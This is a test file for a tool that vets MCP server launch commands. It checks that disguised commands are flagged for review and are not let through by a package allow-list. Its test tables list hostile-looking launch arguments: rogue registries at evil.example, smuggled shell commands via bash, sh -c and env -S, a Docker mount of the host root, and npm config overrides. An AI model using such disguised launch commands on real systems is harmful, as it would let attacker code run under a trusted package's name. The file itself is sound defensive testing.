import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { serverAllowed } from '../../electron/policy/managed/servers.ts';
import { startHost } from '../fixtures/host.ts';
import { type OpenHost, testProfile } from '../fixtures/host-in-process.ts';

// Attacks 5 and 24: a start command that names a well-known package and runs something else. Whoever reviews it is told
// before anything of it is fetched or started, and no list of allowed packages is fooled by it.

const ATTACKS: readonly (readonly [command: string, args: readonly string[], says: RegExp])[] = [
  [
    'npx',
    ['-p', '@acme/x', '--registry=https://evil.example', 'bin'],
    /not one of the usual ones.*evil\.example/,
  ],
  ['npm', ['exec', '@acme/x', '--registry=https://evil.example'], /not one of the usual ones/],
  ['npx', ['-p', '@acme/x', 'bash', 'evil.sh'], /through a shell \(bash\)/],
  ['npx', ['--call=touch x', '@acme/x'], /stands in the command itself/],
  ['npx', ['--foo', 'evil/x', '@acme/x'], /does not come from a registry: evil\/x/],
  ['uvx', ['--from', 'acme', 'python', '-c', 'open("x","w")'], /stands in the command itself/],
  ['env', ['-S', 'touch x', 'node', '/opt/server.js'], /stands in the command itself/],
  ['timeout', ['--', '5', 'sh', '-c', 'touch x'], /through a shell \(sh\)/],
  ['docker', ['run', '-itv/:/host', 'acme/x'], /files of this computer: \//],
  ['node', ['--import', './x.mjs', '/opt/server.js'], /Other code is loaded before the server/],
];

const ORDINARY: readonly (readonly [command: string, args: readonly string[]])[] = [
  ['npx', ['-y', '@acme/notes@1.2.3', '--registry', 'https://packages.example.com']],
  ['npx', ['-y', '-p', '@acme/notes', 'notes', '--stdio']],
  ['uvx', ['mcp-server-fetch']],
  ['docker', ['run', '-i', '--rm', '-e', 'TOKEN', 'mcp/fetch']],
  ['env', ['A=b', 'node', '/opt/notes/server.js']],
];

describe('a host', () => {
  const profile = testProfile();
  let host: OpenHost;
  beforeAll(async () => {
    host = await profile.open();
  });
  afterAll(() => profile.remove());

  let next = 0;
  async function heldSentences(command: string, args: readonly string[]): Promise<readonly string[]> {
    const id = `s${next++}`;
    await host.must('server.add', {
      id,
      launch: { transport: 'stdio', command, args: [...args], env: {} },
    });
    const { state, launchReasons = [] } = await host.must('server.show', { id });
    expect(state).toBe('unreviewed');
    return launchReasons.filter(({ weight }) => weight === 'held').map(({ sentence }) => sentence);
  }

  test.each(ATTACKS)('says what is wrong with %s %j', async (command, args, says) => {
    expect((await heldSentences(command, args)).join('\n')).toMatch(says);
  });

  test.each(ORDINARY)('says nothing against %s %j', async (command, args) => {
    expect(await heldSentences(command, args)).toEqual([]);
  });
});

test('what is only added is told of and does not run', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'doorward-launch-'));
  const host = await startHost();
  try {
    const mark = join(folder, 'mark');
    await host.must(['server', 'add', 'notes', '--', 'env', '-S', `touch ${mark}`, 'node', '/opt/server.js']);
    const { stdout } = await host.cli(['server', 'show', 'notes']);
    expect(stdout).toContain('Its program stands in the command itself');
    expect(existsSync(mark)).toBe(false);
  } finally {
    await host.stop();
    rmSync(folder, { recursive: true, force: true });
  }
});

describe('a list of allowed packages', () => {
  const allowed = (command: string, args: readonly string[], env: Record<string, string> = {}): boolean =>
    serverAllowed(
      {
        version: 1,
        organisation: { name: 'Example Ltd', contact: 'it@example.com' },
        servers: { allowed: [{ package: '@acme/*' }, { package: 'acme-*' }] },
        trustedRegistries: [],
      },
      { id: 'x', launch: { transport: 'stdio', command, args: [...args], env }, platform: 'linux' },
    ).allowed;

  test.each<[string, readonly string[], Record<string, string>?]>([
    ['npx', ['--foo', 'evil/x', '@acme/x']],
    ['npx', ['-yq', 'evil', '@acme/x']],
    ['npx', ['-yp', 'evil', '@acme/x']],
    ['npx', ['--pack', 'evil', '@acme/x']],
    ['npx', ['--regis=https://evil.example', '@acme/x']],
    ['npx', ['-registry=https://evil.example', '@acme/x']],
    ['npx', ['-p', '@acme/x', '--registry=https://evil.example', 'x']],
    ['npx', ['-p', '@acme/x', '--script-shell', '/home/jane/evil', 'x']],
    ['npx', ['-p', '@acme/x', 'evil']],
    ['npx', ['-n', '@acme/x', 'evil']],
    ['npm', ['exec', '@acme/x', '--call=evil']],
    ['npm', ['exec', '--package=@acme/x', '--', 'evil']],
    ['npm', ['--userconfig=/home/jane/npmrc', 'exec', '@acme/x']],
    ['pnpm', ['--package=evil', 'dlx', '@acme/x']],
    ['pnpm', ['--config.registry=https://evil.example', 'dlx', '@acme/x']],
    ['uvx', ['--from', 'acme-x', 'bash', '-c', 'evil']],
    ['uvx', ['-w', 'evil', 'acme-x']],
    ['uvx', ['--with-requirements', 'evil.txt', 'acme-x']],
    ['uvx', ['--config-file', '/home/jane/uv.toml', 'acme-x']],
    ['uvx', ['-fhttps://evil.example', 'acme-x']],
    ['pipx', ['run', '--pip-args=--index-url=https://evil.example', 'acme-x']],
    ['uv', ['run', '--with', 'acme-x', 'evil']],
    ['npx', ['@acme/x'], { 'npm_config_@acme:registry': 'https://evil.example' }],
    ['npx', ['@acme/x'], { npm_config_call: 'evil' }],
    ['npx', ['@acme/x'], { 'npm_config_script-shell': '/home/jane/evil' }],
  ])('does not take %s %j for one of them', (command, args, env) => {
    expect(allowed(command, args, env)).toBe(false);
  });

  test.each<[string, readonly string[], Record<string, string>?]>([
    ['npx', ['-y', '@acme/x', '--verbose']],
    ['npx', ['-y', '-p', '@acme/x', 'x', '--stdio']],
    ['npm', ['exec', '--yes', '--', '@acme/x']],
    ['pnpm', ['dlx', '@acme/x']],
    ['uvx', ['--from', 'acme-x', 'acme-x']],
    ['uv', ['tool', 'run', 'acme-x']],
    ['npx', ['@acme/x'], { SEARCH_INDEX: 'products', LOG_LEVEL: 'debug' }],
  ])('lets %s %j be used', (command, args, env) => {
    expect(allowed(command, args, env)).toBe(true);
  });
});
